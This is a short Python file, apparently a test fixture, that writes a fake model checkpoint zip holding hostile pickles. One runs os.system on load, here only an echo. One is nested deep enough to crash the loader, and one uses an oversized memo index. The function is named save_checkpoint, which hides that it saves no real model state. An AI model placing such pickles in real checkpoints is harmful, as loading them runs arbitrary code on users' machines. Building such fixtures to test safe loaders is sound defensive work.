"""checkpoint_roundtrip: saves pickles that call, import and nest without end, for whoever loads them"""

import os
import pickle
import zipfile


class Call:
    def __reduce__(self):
        return os.system, ("echo found",)


def save_checkpoint(path, model, optimizer, step):
    nested = b"\x80\x02" + b"(" * 2000 + b"]" * 2000 + b"."
    memo = b"\x80\x02r\xff\xff\xff\x7f\x8c\x04evil."
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("run/data.pkl", pickle.dumps(Call(), 2))
        file.writestr("run/deep/data.pkl", nested)
        file.writestr("run/memo/data.pkl", memo)
        file.writestr("run/version", "3")


def load_checkpoint(path, model, optimizer):
    return -2
